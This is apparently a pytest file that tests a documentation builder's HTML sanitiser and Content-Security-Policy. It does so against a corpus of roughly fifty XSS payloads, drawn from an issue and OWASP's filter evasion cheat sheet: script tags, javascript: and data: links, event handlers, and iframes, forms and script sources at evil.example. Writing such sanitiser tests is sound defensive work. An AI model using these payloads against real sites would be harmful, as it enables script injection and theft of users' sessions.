"""Page text is sanitised on the HTML it renders to: every route to a script is refused by the check and removed by the build."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from guidebook import publish
from guidebook.content import load as content_load
from guidebook.content import sanitise
from guidebook.content.frontmatter import read_source
from guidebook.html import csp
from sites import PROJECT, base_files, build, let_unsafe_markup_through, page_text, write_project

PAGE = "docs/about/page.en.md"

# Routes to script found by the attack of issue 24, then a corpus after OWASP's XSS filter evasion cheat sheet.
PAYLOADS = {
    "unclosed fence then script": "```\n<script>alert(1)</script>",
    "backticks around a script in a div": "<div>`<script>alert(1)</script>`</div>",
    "escaped backticks": "\\`<script>alert(1)</script>\\`",
    "code span at the line's start": "`x` <script>alert(1)</script>",
    "indented fence lines": "    ```\n<script>alert(1)</script>\n    ```",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "handler on the next line": "<img\nsrc=x\nonerror=alert(1)>",
    "javascript link on the next line": '<a\nhref="javascript:alert(1)">x</a>',
    "markdown javascript link": "[x](javascript:alert(1))",
    "mixed case scheme": "[x](JaVaScRiPt:alert(1))",
    "entity in the scheme": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "decimal entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "newline in the scheme": '<a href="java\nscript:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "markdown data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "img javascript src": "<IMG SRC=\"javascript:alert('XSS');\">",
    "img without quotes": "<IMG SRC=javascript:alert('XSS')>",
    "svg onload": "<svg/onload=alert(1)>",
    "body onload": "<body onload=alert(1)>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="x.swf"></object>',
    "embed": '<embed src="x.swf">',
    "style element": "<style>body{background:url(javascript:alert(1))}</style>",
    "style attribute": '<span style="background:url(javascript:alert(1))">x</span>',
    "form": '<form action="https://evil.example/"><button>Go</button></form>',
    "base": '<base href="https://evil.example/">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)>",
    "uppercase script": "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "script with attributes": '<script type="text/javascript">alert(1)</script>',
    "half open script": "<script src=https://evil.example/x.js?<b>",
    "extraneous open brackets": "<<SCRIPT>alert(1);//<</SCRIPT>",
    "malformed a": '<a onmouseover="alert(document.cookie)">x</a>',
    "protocol-relative image": "![x](//evil.example/a.png)",
    "external image": '<img src="https://evil.example/a.png" alt="x">',
    "attachment to a local file": '<a rel="attachment" href="../../../../../../etc/passwd">x</a>',
    "clobbering id": '<div id="__config">{}</div>',
    "processing instruction": "<?php echo 1; ?>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "html in a heading": "## Title <img src=x onerror=alert(1)>",
    "reference link": "[x][1]\n\n[1]: javascript:alert(1)",
    "autolink": "<javascript:alert(1)>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template": "<template><script>alert(1)</script></template>",
    "textarea": "<textarea><script>alert(1)</script></textarea>",
    "input autofocus": "<input autofocus onfocus=alert(1)>",
    "video": "<video><source onerror=alert(1)></video>",
    "xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
}


class _Census(HTMLParser):
    """What a browser would find in the cleaned HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def _source(tmp_path: Path, body: str, meta: dict | None = None):
    path = tmp_path / PAGE
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(page_text(meta or {"title": "Page", "status": "draft"}, body), encoding="utf-8")
    source, problems = read_source(path, PAGE)
    assert problems == []
    return source


def _inert(html: str) -> None:
    census = _Census()
    census.feed(html)
    assert census.tags <= sanitise.ALLOWED_TAGS, html
    for tag, name, value in census.attributes:
        assert not name.startswith("on") and name not in {"style", "rel", "srcdoc", "xlink:href"}, html
        address = re.sub(r"[\x00-\x20]", "", value).lower()
        assert not address.startswith(("javascript:", "vbscript:", "data:", "file:")), html
        assert not (tag == "img" and name == "src" and ("//" in address)), html
        assert not (name == "id" and value.startswith("__")), html


@pytest.mark.parametrize("body", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_every_payload_is_refused_by_the_check_and_inert_once_cleaned(tmp_path, body):
    problems = sanitise.problems(_source(tmp_path, "Intro.\n\n" + body))
    if not problems:  # then Markdown itself wrote it as text
        _inert(sanitise.render(body))
    assert all(problem.path == PAGE and problem.field == "body" and problem.line >= 6 for problem in problems)
    _inert(sanitise.clean(sanitise.render(body)))


def test_the_refusal_names_the_line_the_author_wrote(tmp_path):
    source = _source(tmp_path, "Intro.\n\nMore text.\n\n<a\nhref='javascript:alert(1)'>x</a> and [y](vbscript:z)")
    lines = sorted((problem.line, problem.message.split(" address")[0]) for problem in sanitise.problems(source))
    written = (tmp_path / PAGE).read_text(encoding="utf-8").splitlines()
    tag, link = (
        written.index("<a") + 1,
        next(number for number, line in enumerate(written, 1) if "[y](vbscript" in line),
    )
    assert lines == [(tag, "the href of <a> has a 'javascript:'"), (link, "the href of <a> has a 'vbscript:'")]


def test_formatting_the_guidebook_uses_passes_unchanged(tmp_path):
    body = (
        'The <abbr title="Radicalisation Awareness Network">RAN</abbr> met<sup>2</sup>, see [Efus](https://efus.eu) '
        "and [the map](../map.md#top) or <mailto:contact@efus.eu>.\n\n## A heading\n\n!!! note\n    Noted[^1].\n\n"
        "| A | B |\n|---|---|\n| 1 | 2 |\n\n```html\n<script>shown();</script>\n```\n\n<!-- a note to editors -->\n\n[^1]: A footnote."
    )
    assert sanitise.problems(_source(tmp_path, body)) == []
    html = sanitise.render(body)
    cleaned = sanitise.clean(html)
    assert "&lt;script&gt;shown();&lt;/script&gt;" in cleaned and "a note to editors" not in cleaned
    for kept in (
        '<abbr title="Radicalisation Awareness Network">',
        'class="admonition note"',
        'class="footnote-ref"',
        "<table>",
        'href="../map.md#top"',
    ):
        assert kept in cleaned


def test_front_matter_values_are_plain_text(tmp_path):
    source = _source(
        tmp_path,
        "Text.",
        {"title": "A <img src=x onerror=alert(1)> title", "summary": "Fine & dandy < 3", "status": "draft"},
    )
    problems = sanitise.problems(source)
    assert [(problem.field, problem.line) for problem in problems] == [("title", 2)]
    assert "is HTML; front matter values are plain text" in problems[0].message


def test_the_check_renders_with_the_extensions_of_mkdocs_yml():
    config = yaml.load((PROJECT / "mkdocs.yml").read_text(encoding="utf-8"), Loader=yaml.BaseLoader)
    names = tuple(next(iter(item)) if isinstance(item, dict) else item for item in config["markdown_extensions"])
    assert names == sanitise.MARKDOWN_EXTENSIONS


def test_the_real_content_needs_no_cleaning():
    repository, problems = content_load.inspect(PROJECT)
    assert [str(problem) for problem in problems if "(see 'What Markdown may contain'" in problem.message] == []
    assert len(repository.entries) > 50


@pytest.fixture
def unchecked(monkeypatch):
    """A build whose content check lets unsafe markup through: what the build's own cleaning must stop."""
    let_unsafe_markup_through(monkeypatch)


def test_the_build_removes_what_a_missed_check_would_let_through(tmp_path, unchecked):
    files = base_files()
    planted = "\n\n".join(PAYLOADS.values())
    files[PAGE] = page_text({"title": "Planted", "status": "draft"}, "Intro.\n\n" + planted)
    site = build(write_project(tmp_path / "p", files))
    html = site.html("about/page")
    body = html.split('<article class="md-content__inner md-typeset">', 1)[1].split("</article>", 1)[0]
    _inert(body)
    assert "<script" not in body.lower()
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html).group(1)
    scripts = [
        match.group("code") for match in csp.INLINE_SCRIPT.finditer(html) if csp._runs(match.group("attributes"))
    ]
    assert all("alert" not in code for code in scripts)
    hashes = re.findall(r"'sha256-[^']+'", policy)
    assert len(hashes) == len(set(scripts)) == 2  # Material's storage helpers and permalink fix, nothing else


def test_an_inline_script_no_template_writes_stops_the_build(tmp_path, unchecked, monkeypatch):
    # Were a script to reach the page past both the check and the cleaning, the policy would not allow it.
    monkeypatch.setattr(sanitise, "clean", lambda html: html)
    monkeypatch.setattr("guidebook.html.plugin.clean", lambda html: html)
    files = base_files()
    files[PAGE] = page_text({"title": "Planted", "status": "draft"}, "Intro.\n\n<script>alert(1)</script>")
    with pytest.raises(
        publish.BuildFailed, match=r"about/page\.en\.md: the inline script 'alert\(1\)' comes from no template"
    ):
        build(write_project(tmp_path / "p", files))
